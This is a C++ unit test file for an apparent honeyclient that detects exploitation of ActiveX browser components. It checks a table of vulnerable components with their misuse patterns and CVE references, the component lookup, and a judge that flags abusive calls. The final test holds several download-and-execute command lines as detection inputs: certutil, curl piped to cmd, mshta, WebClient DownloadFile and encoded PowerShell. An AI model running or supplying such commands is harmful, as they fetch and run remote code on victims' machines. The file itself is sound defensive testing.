#include "honeyclient/components/table.h"

#include <gmock/gmock.h>

#include <set>

#include "honeyclient/components/embedded.h"
#include "honeyclient/components/judge.h"

namespace shikake::honeyclient::components {
namespace {

constexpr std::string_view whole = R"(
[[component]]
name = "Specimen"
program_ids = ["Specimen.Player.2"]
class_ids = ["00000000-0000-0000-0000-00000000ABCD"]
types = ["application/x-Specimen"]
browsers = [6, 8]
versions = [[6, "1.2"], [8, "3.4.5"]]
numbered = true
methods = ["Open", "Version"]
properties = ["Url"]
answers = { Version = "v{version} {version,}" }
fetches = ["Url"]
  [[component.misuse]]
  members = ["Open"]
  trait = "overlong"
  argument = 1
  length = 20
  cves = ["CVE-2008-12345"]
  source = "https://advisory.example/1"
)";

TEST(ComponentTable, ReadsARow) {
  auto rows = parse_table(whole, "specimen.toml");
  ASSERT_TRUE(rows.has_value()) << rows.error().message();
  ASSERT_EQ(rows->size(), 1u);
  const Component& row = (*rows)[0];
  EXPECT_EQ(row.class_ids, std::vector<std::string>{"00000000-0000-0000-0000-00000000abcd"});
  EXPECT_EQ(row.types, std::vector<std::string>{"application/x-specimen"});
  EXPECT_EQ(version(row, 7), "1.2");
  EXPECT_EQ(version(row, 11), "3.4.5");
  EXPECT_EQ(answer(row, "vErSiOn", 8), "v3.4.5 3,4,5");
  EXPECT_EQ(answer(row, "Open", 8), std::nullopt);
  EXPECT_EQ(row.line, 2u);
  EXPECT_EQ(row.misuses.at(0).argument, 1u);
  EXPECT_TRUE(installed(row, "Specimen.Player", 8, {}));
  EXPECT_TRUE(installed(row, "Specimen.Player.3", 8, {}));
  EXPECT_FALSE(installed(row, "Specimen.Player.4", 8, {}));
  EXPECT_FALSE(installed(row, "Specimen.Player", 9, {}));
  EXPECT_FALSE(installed(row, "Specimen.Player", 0, {}));
}

// Each takes the whole row and breaks one column.
TEST(ComponentTable, RefusesAWrongRowWithItsPlace) {
  const struct {
    const char* name;
    std::string_view part, instead;
    uint64_t line;
    std::string_view says;
  } rows[] = {
      {"no_name", "name = \"Specimen\"", "", 2, "name must be a text"},
      {"class_id", "00000000-0000-0000-0000-00000000ABCD", "{0}", 2, "no CLSID"},
      {"misspelt_column", "methods", "metods", 10, "metods is none that there is"},
      {"browsers", "[6, 8]", "[8, 6]", 7, "[first, last]"},
      {"browsers_text", "[6, 8]", "\"6\"", 7, "[first, last]"},
      {"versions_order", "[[6, \"1.2\"], [8, \"3.4.5\"]]", "[[8, \"1\"], [6, \"2\"]]", 8, "oldest"},
      {"numbered", "numbered = true", "numbered = 1", 9, "true or false"},
      {"answers", "{ Version = \"v{version} {version,}\" }", "[]", 12, "table of texts"},
      {"answer_of_nobody", "answers = { Version", "answers = { Other", 2, "names Other"},
      {"fetches", "fetches = [\"Url\"]", "fetches = \"Url\"", 13, "list of texts"},
      {"members", "members = [\"Open\"]", "members = [\"Close\"]", 2, "names Close"},
      {"trait", "\"overlong\"", "\"huge\"", 14, "must be one of overlong"},
      {"argument", "argument = 1", "argument = -1", 17, "from 0 to 15"},
      {"length_elsewhere", "\"overlong\"", "\"path\"", 14, "goes with the traits overlong and width"},
      {"number_without_bound", "\"overlong\"\n", "\"number\"\n", 14, "at_least"},
      {"contains_without_texts", "\"overlong\"\n", "\"contains\"\n", 14, "needs it"},
      {"cve", "CVE-2008-12345", "CVE-12345", 14, "no CVE id"},
      {"source", "https://advisory.example/1", "see below", 14, "https address"},
      {"cve_without_source", "source = \"https://advisory.example/1\"", "", 14, "source is missing"},
      {"no_toml", "[[component]]", "[[component", 2, ""},
  };
  for (const auto& row : rows) {
    std::string text(whole);
    const size_t at = text.find(row.part);
    ASSERT_NE(at, std::string::npos) << row.name;
    text.replace(at, row.part.size(), row.instead);
    auto read = parse_table(text, "specimen.toml");
    ASSERT_FALSE(read.has_value()) << row.name;
    EXPECT_EQ(read.error().line, row.line) << row.name << ": " << read.error().message();
    EXPECT_THAT(read.error().message(), ::testing::HasSubstr(std::string(row.says))) << row.name;
    EXPECT_THAT(read.error().message(), ::testing::HasSubstr("specimen.toml")) << row.name;
  }
}

TEST(ComponentTable, EveryFileIsRight) {
  std::set<std::string> names, ids;
  size_t convicting = 0;
  for (const EmbeddedTable& file : embedded_tables()) {
    auto rows = parse_table(file.text, file.name);
    ASSERT_TRUE(rows.has_value()) << rows.error().message();
    for (const Component& row : *rows) {
      EXPECT_TRUE(names.insert(row.name).second) << row.name << " stands twice";
      for (const std::string& id : row.program_ids)
        EXPECT_TRUE(ids.insert(plain_name(id)).second) << id << " stands twice";
      for (const std::string& id : row.class_ids) EXPECT_TRUE(ids.insert(id).second) << id << " stands twice";
      bool convicts = false;
      for (const Misuse& misuse : row.misuses) convicts = convicts || !misuse.source.empty();
      convicting += convicts;
    }
  }
  EXPECT_EQ(table().size(), [] {
    size_t all = 0;
    for (const EmbeddedTable& file : embedded_tables()) all += parse_table(file.text, file.name)->size();
    return all;
  }());
  EXPECT_GE(convicting, 100u);
}

TEST(ComponentTable, FindsByAnyOfItsNames) {
  const struct {
    const char* name;
    std::string_view asked, found;
  } rows[] = {
      {"program_id", "WebViewFolderIcon.WebViewFolderIcon.1", "WebViewFolderIcon"},
      {"no_version", "webviewfoldericon.webviewfoldericon", "WebViewFolderIcon"},
      {"class_id", "clsid:844F4806-E8A8-11d2-9652-00C04FC30871", "WebViewFolderIcon"},
      {"braces", " CLSID:{844F4806-E8A8-11D2-9652-00C04FC30871} ", "WebViewFolderIcon"},
      {"name_ends_in_digit", "WMIScriptUtils.WMIObjectBroker2.1", "WMI Object Broker"},
      {"two_points", "Msxml2.XMLHTTP.6.0", "Microsoft.XMLHTTP"},
      {"another_version", "ShockwaveFlash.ShockwaveFlash.9", "Adobe Flash Player"},
      {"unknown", "Specimen.Unknown", ""},
      {"empty", "", ""},
      {"digits", "10.0", ""},
  };
  for (const auto& row : rows) {
    const Component* found = find(row.asked);
    EXPECT_EQ(found ? found->name : "", row.found) << row.name;
  }
  EXPECT_EQ(find_by_type("Application/PDF"), find("AcroPDF.PDF"));
  EXPECT_EQ(find_by_type("text/html"), nullptr);
}

TEST(ComponentJudge, WeighsArguments) {
  Component row;
  row.name = "Specimen";
  auto misuse = [&](const char* member, Trait trait) -> Misuse& {
    row.misuses.push_back({.members = {member}, .trait = trait, .source = "https://advisory.example/"});
    return row.misuses.back();
  };
  misuse("Long", Trait::overlong).length = 10;
  Misuse& second = misuse("Second", Trait::overlong);
  second.argument = 1;
  second.length = 10;
  misuse("Number", Trait::number).at_least = 65536;
  misuse("Path", Trait::path);
  misuse("Address", Trait::address);
  misuse("Contains", Trait::contains).texts = {"adodb."};
  misuse("Run", Trait::command);
  misuse("Use", Trait::called);
  misuse("Hearsay", Trait::called).source = "";
  const struct {
    const char* name;
    std::string_view member;
    std::vector<std::string> arguments;
    std::vector<uint32_t> lengths;
    std::string_view what;
  } rows[] = {
      {"long", "lOnG", {"AAA"}, {11}, "gave Specimen.lOnG an argument of 11 characters"},
      {"not_too_long", "Long", {"AAA"}, {10}, ""},
      {"deeper", "Doc().Long", {"A"}, {11}, "gave Specimen.Doc().Long an argument of 11 characters"},
      {"other_argument", "Second", {"A", "b"}, {5000, 1}, ""},
      {"number", "Number", {"65536"}, {0}, "gave Specimen.Number the number 65536"},
      {"small_number", "Number", {"7"}, {0}, ""},
      {"no_number", "Number", {"7x"}, {0}, ""},
      {"drive", "Path", {"C:\\x.exe"}, {8}, "gave Specimen.Path the path C:\\x.exe"},
      {"share", "Path", {"\\\\host\\x"}, {8}, "gave Specimen.Path the path \\\\host\\x"},
      {"file_name", "Path", {"report.txt"}, {10}, ""},
      {"address", "Address", {"HTTPS://a.example/x"}, {19}, "had Specimen.Address fetch HTTPS://a.example/x"},
      {"relative", "Address", {"x.html"}, {6}, ""},
      {"contains", "Contains", {"ADODB.Stream"}, {12}, "gave Specimen.Contains \"ADODB.Stream\""},
      {"command", "Run", {"specimen"}, {8}, "had Specimen.Run run \"specimen\""},
      {"no_command", "Run", {""}, {0}, ""},
      {"called", "Use", {}, {}, "used Specimen.Use"},
      {"without_source", "Hearsay", {}, {}, ""},
      {"made", "", {}, {}, ""},
      {"other_member", "Close", {"AAA"}, {5000}, ""},
  };
  for (const auto& one : rows) {
    auto conviction = judge(row, {one.member, one.arguments, one.lengths, false});
    EXPECT_EQ(conviction ? conviction->what : "", one.what) << one.name;
  }
}

TEST(ComponentJudge, FindsAddressesInCommands) {
  const struct {
    const char* name;
    std::string_view command;
    std::vector<std::string> addresses;
  } rows[] = {
      {"none", "cmd /c dir", {}},
      {"quoted", "mshta \"http://a.example/x.hta\"", {"http://a.example/x.hta"}},
      {"two",
       "certutil -urlcache -f HTTP://a.example/1 1.exe & curl https://b.example/2|cmd",
       {"HTTP://a.example/1", "https://b.example/2"}},
      {"call", "(New-Object Net.WebClient).DownloadFile('http://a.example/p','p')", {"http://a.example/p"}},
      // "iwr http://a.example/p" in UTF-16, Base64.
      {"encoded",
       "powershell -nop -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAA=",
       {"http://a.example/p"}},
      {"scheme_alone", "start http://", {}},
  };
  for (const auto& row : rows) EXPECT_EQ(addresses_in(row.command), row.addresses) << row.name;
}

}  // namespace
}  // namespace shikake::honeyclient::components
